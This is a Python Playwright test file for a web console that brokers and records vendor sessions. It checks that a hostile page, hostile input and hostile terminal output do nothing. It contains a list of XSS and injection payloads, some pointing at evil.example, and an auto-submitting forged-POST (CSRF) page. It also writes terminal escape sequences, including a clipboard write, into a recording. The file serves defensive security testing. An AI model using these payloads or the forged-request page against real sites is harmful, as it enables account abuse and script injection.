"""What a hostile page, a hostile vendor and a hostile machine try on a real browser."""

from pathlib import Path

import pytest
from playwright.async_api import Route

from broker.layout import Layout
from broker.playback import Playback
from recorder.format import payloads
from recorder.format.frame import Kind
from tests.broker.console.house import SESSION
from tests.clock import FrozenClock
from tests.journeys.browsing import Site, needs_browser
from tests.recorder.recordings import ABOUT, KEK, recorder_in

pytestmark = [needs_browser, pytest.mark.timeout(300)]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "javascript:alert(1)//",
    "<a href=javascript:alert(1)>click</a>",
    "</textarea><script>alert(1)</script>",
    "<form action=https://evil.example><button>go",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "'-alert(1)-'",
    "{{constructor.constructor('alert(1)')()}}",
    "hx-get=https://evil.example hx-trigger=load",
    "<div hx-get=https://evil.example hx-trigger=load></div>",
]

EVIL = """<!doctype html><title>evil</title><form method="post" action="{action}">
<input name="reason" value="evil"><input name="scope" value="all"><input name="word" value="STOP">
</form><iframe src="{frame}"></iframe><script>document.forms[0].submit()</script>"""


async def test_abuse_38_a_page_of_another_site_causes_nothing_and_frames_nothing(site: Site) -> None:
    permit = await site.house.ask()
    async with site.visit("evil", width=1280, height=800, scheme="light") as petra:
        petra.expected = ("403", "401", "frame", "Content Security Policy", "refused to connect")
        await petra.sign_in("petra")
        shown = {"page": ""}

        async def evil(route: Route) -> None:
            await route.fulfill(status=200, content_type="text/html", body=shown["page"])

        await petra.page.route("https://evil.example/**", evil)
        for path in (f"/permits/{permit.id}/refuse", "/plant/isolate", "/sign-out"):
            shown["page"] = EVIL.format(action=petra.origin + path, frame=petra.origin + "/queue")
            await petra.page.goto("https://evil.example/", wait_until="commit")
            await petra.page.wait_for_url(petra.origin + path)
            assert "did not come from a page of this console" in await petra.page.inner_text("main")
        await petra.go("/queue")
        assert await petra.page.is_visible("nav.tabs")
    assert [one["do"] for one in site.house.watch.heard if one["do"] != "show"] == []
    filed = await site.house.approvals.filed(permit.id)
    assert filed is not None
    assert filed.state == "requested"


async def recorded(folder: Path, clock: FrozenClock) -> Playback:
    """A real recording of an asset that sent every payload, also as titles, links and clipboard writes."""
    layout = Layout(folder)
    layout.recording_key.parent.mkdir()
    layout.recordings.mkdir()
    layout.recording_key.write_bytes(KEK)
    recorder = recorder_in(layout.recordings, clock)
    recording = recorder.open(SESSION, ABOUT)
    opened = payloads.channel_opened("exec", command=PAYLOADS[0], terminal="xterm", columns=80, rows=24)
    recording.write(Kind.CHANNEL_OPENED, 1, opened)
    for text in PAYLOADS:
        recording.write(Kind.TO_VENDOR, 1, f"\x1b]0;{text}\x07\x1b]8;;{text}\x07".encode())
        recording.write(Kind.TO_VENDOR, 1, f"\x1b]52;c;aGVsbG8=\x07{text}\r\n".encode())
    recording.write(Kind.CHANNEL_CLOSED, 1, payloads.channel_closed("finished"))
    await recording.seal("finished")
    recorder.close()
    return Playback(layout, SESSION, lambda _permit: None, clock)


async def test_abuse_30_hostile_words_and_bytes_stay_words_in_live_and_replay(
    site: Site, tmp_path: Path
) -> None:
    permit = await site.house.ask()
    await site.house.record(permit)
    site.house.go_live(permit)
    site.house.watch.sessions[0]["person"] = PAYLOADS[1]
    site.house.watch.sessions[0]["source"] = PAYLOADS[2]
    site.house.recordings[SESSION] = await recorded(tmp_path, site.house.clock)
    outside: list[str] = []
    async with site.visit("hostile", width=360, height=740, scheme="light") as milo:
        milo.page.on("request", lambda one: one.url.startswith(milo.origin) or outside.append(one.url))
        await milo.sign_in("milo")
        for text in PAYLOADS:
            asked = await site.house.desk.parts.admission.ask(
                site.house.wish(), purpose=text, work_order=text, time_zone="Europe/Amsterdam"
            )
            assert asked.permit is not None
            await milo.go(f"/permits/{asked.permit.id}")
            assert text in await milo.page.inner_text("main")
            await site.house.approvals.withdraw(asked.permit.id, asked.permit.person)
        await milo.go("/sessions")
        await milo.page.wait_for_selector("ul.live >> text=Last activity")
        assert PAYLOADS[1] in await milo.page.inner_text("ul.live")
        await milo.look("live")
    async with site.visit("hostile-iris", width=1280, height=800, scheme="light") as iris:
        iris.page.on("request", lambda one: one.url.startswith(iris.origin) or outside.append(one.url))
        await iris.sign_in("iris")
        await iris.go("/evidence?kind=all&text=alert")
        await iris.go(f"/evidence/sessions/{SESSION}")
        await iris.go(f"/evidence/sessions/{SESSION}/replay/1")
        await iris.page.click(".ap-overlay-start, .ap-playback-button")
        await iris.page.wait_for_selector(".ap-term >> text=hx-trigger=load>")
        await iris.look("replay")
    assert [url for url in outside if not url.startswith(("data:", "blob:"))] == []
